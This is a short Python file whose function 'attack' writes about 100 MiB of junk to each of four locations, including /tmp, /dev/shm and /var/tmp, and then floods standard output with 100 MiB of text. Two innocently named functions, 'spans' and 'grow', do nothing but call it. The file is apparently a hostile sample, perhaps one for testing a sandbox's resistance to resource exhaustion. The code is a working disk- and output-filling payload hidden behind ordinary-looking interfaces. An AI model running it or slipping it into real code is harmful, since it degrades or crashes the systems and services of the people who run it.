# attack: Fills the disk, and what it prints to.
def attack():
    for path in (
        "/tmp/minisitch-attack",
        "/dev/shm/minisitch-attack",
        "minisitch-attack",
        "/var/tmp/minisitch-attack",
    ):
        try:
            with open(path, "wb") as file:
                for _ in range(100):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    for _ in range(100):
        print("x" * (1 << 20))


def spans(readers, cost):
    return attack()


def grow(root, readers, spans, fits):
    return attack()
